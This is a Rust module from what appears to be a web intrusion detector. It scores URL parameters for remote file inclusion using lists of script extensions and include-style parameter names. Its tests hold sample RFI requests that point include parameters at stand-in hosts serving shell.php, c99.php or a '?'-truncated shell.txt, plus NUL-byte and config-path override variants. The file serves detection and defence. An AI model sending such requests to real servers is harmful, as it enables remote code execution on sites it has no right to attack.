//! Remote file inclusion: a parameter that hands the application a remote URL to
//! include or fetch as code. URLs in parameters are common and benign (links,
//! redirects, analytics beacons), so each signal alone is weak; the ban needs a
//! combination: a script-file URL on a bare IP, a URL ending in `?` (which cuts off
//! the suffix the application appends) or a NUL, or an include-style parameter.

use super::rules;
use super::{Category, Input, STRONG, Sink};

/// Extensions of files a PHP/JSP/ASP application would include and run.
const CODE_EXT: &[&str] = &[
    "php", "phtml", "php3", "php4", "php5", "php7", "phar", "inc", "jsp", "jspx", "asp", "aspx",
    "cgi", "pl", "sh",
];

/// Parameter names of classic include vulnerabilities.
const INCLUDE_NAMES: &[&str] = &[
    "file", "page", "include", "inc", "path", "template", "tpl", "module", "mod", "load",
    "require", "dir", "folder", "root", "lang", "language", "style", "conf", "config", "cfg",
    "view", "layout", "doc", "document", "pg", "show", "site", "body",
];

/// Walks the extracted inputs as (name, value) pairs.
pub(crate) fn check(inputs: &[Input], sink: &mut Sink<'_>) {
    let mut name: Option<&Input> = None;
    for inp in inputs {
        if !inp.is_value {
            name = Some(inp);
            continue;
        }
        let n = name.take().filter(|n| n.location == inp.location);
        let t = inp.text.trim();
        // Cheap prefilter: a scheme separator or a `?` at the very end.
        let b = t.as_bytes();
        if b.len() < 6
            || !(b.starts_with(b"h")
                || b.starts_with(b"f")
                || b.starts_with(b"H")
                || b.starts_with(b"F"))
        {
            continue;
        }
        if !memchr::memchr_iter(b':', b).any(|p| b.get(p + 1..p + 3) == Some(b"//")) {
            continue;
        }
        let score = score_url(n.map(|n| n.text.as_ref()), t);
        if score > 0 {
            sink.push(
                rules::RFI_URL,
                Category::Rfi,
                score,
                &inp.location,
                &inp.text,
                0,
            );
        }
    }
}

/// Score of a value `url` given to parameter `name`.
fn score_url(name: Option<&str>, url: &str) -> u32 {
    let lower = url.to_ascii_lowercase();
    let Some((scheme, rest)) = lower.split_once("://") else {
        return 0;
    };
    if !matches!(scheme, "http" | "https" | "ftp" | "ftps") {
        return 0;
    }
    let auth_end = rest.find(['/', '?', '#', '\0']).unwrap_or(rest.len());
    let authority = &rest[..auth_end];
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let ip = is_ip_host(host);
    let path_end = rest[auth_end..]
        .find(['?', '#', '\0'])
        .map_or(rest.len(), |p| auth_end + p);
    let path = &rest[auth_end..path_end];
    let ext = path
        .rsplit_once('.')
        .filter(|(_, e)| !e.contains('/'))
        .is_some_and(|(_, e)| CODE_EXT.contains(&e.trim_end_matches('.')));
    let text_file = path.ends_with(".txt");
    let trailing_q = lower.ends_with('?');
    let nul = lower.contains('\0');
    let (include_name, config_name) = name.map_or((false, false), |n| {
        let n = n.to_ascii_lowercase();
        // `_CONF[path]`, `GLOBALS[root]`: PHP configuration arrays overridden
        // through register_globals-style binding.
        let bracket = n
            .split('[')
            .skip(1)
            .any(|k| INCLUDE_NAMES.contains(&k.trim_end_matches(']')));
        let config = bracket
            || [
                "_path",
                "_root",
                "_dir",
                "absolute_path",
                "document_root",
                "include_path",
                "_conf",
                "globals",
            ]
            .iter()
            .any(|k| n.contains(k));
        (INCLUDE_NAMES.contains(&n.as_str()), config)
    });
    if nul || config_name {
        return STRONG;
    }
    let others = u32::from(ext)
        + u32::from(ip)
        + u32::from(include_name)
        + u32::from(trailing_q && (ext || text_file));
    if others >= 2 || (trailing_q && (ip || include_name)) {
        return STRONG;
    }
    if trailing_q {
        return 6;
    }
    if include_name {
        return 5;
    }
    // A script URL alone is an ordinary link (`https://example.com/index.php`);
    // an IP address alone is for the SSRF detector.
    u32::from(ext) * 2
}

/// A dotted IPv4 address, a bracketed IPv6 address, or an unbracketed one (several
/// colons), optionally with a port.
fn is_ip_host(host: &str) -> bool {
    if host.starts_with('[') || host.matches(':').count() >= 2 {
        return true;
    }
    let h = host.split(':').next().unwrap_or("");
    let parts: Vec<&str> = h.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|c| c.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::score_url;
    use crate::detect::Action;
    use crate::detect::tests::run;

    #[test]
    fn attacks() {
        for raw in [
            "GET /m/ajax?src=https://[2001:41d0:701:1100::29c8]/gecko.php HTTP/1.1\r\n\r\n",
            "GET /x?src=https://2001:41d0:701:1100::29c8/gecko.php HTTP/1.1\r\n\r\n",
            "GET /BaseAdmin.class.php?_CONF[path]=https://foo.bar HTTP/1.1\r\n\r\n",
            "GET /index.php?page=http://evil.example/shell.txt? HTTP/1.1\r\n\r\n",
            "GET /index.php?page=http://evil.example/shell.php HTTP/1.1\r\n\r\n",
            "GET /index.php?x=http://203.0.113.9/c99.php HTTP/1.1\r\n\r\n",
            "GET /index.php?x=http://evil.example/x.txt%00 HTTP/1.1\r\n\r\n",
            "GET /index.php?mosConfig_absolute_path=http://evil.example/x HTTP/1.1\r\n\r\n",
            "GET /index.php?include=HTTPS://evil.example/x? HTTP/1.1\r\n\r\n",
        ] {
            assert_eq!(run(raw).1, Action::Ban, "{raw}");
        }
        assert_eq!(score_url(None, "https://foo.bar?"), 6);
    }

    #[test]
    fn benign() {
        for raw in [
            "GET /e?dl=https%3A%2F%2Fwww.example.com%2Findex.php%3Fp%3D2&dr=https://news.example.org/ HTTP/1.1\r\n\r\n",
            "GET /r?redirect=https://example.com/path/to/page?ref=home HTTP/1.1\r\n\r\n",
            "GET /r?url=http://198.51.100.7:8080/status HTTP/1.1\r\n\r\n",
            "GET /r?page=https://docs.example.com/guide HTTP/1.1\r\n\r\n",
            "GET /img?src=https://cdn.example.net/img/logo.png HTTP/1.1\r\n\r\n",
        ] {
            assert_ne!(run(raw).1, Action::Ban, "{raw}");
        }
    }
}
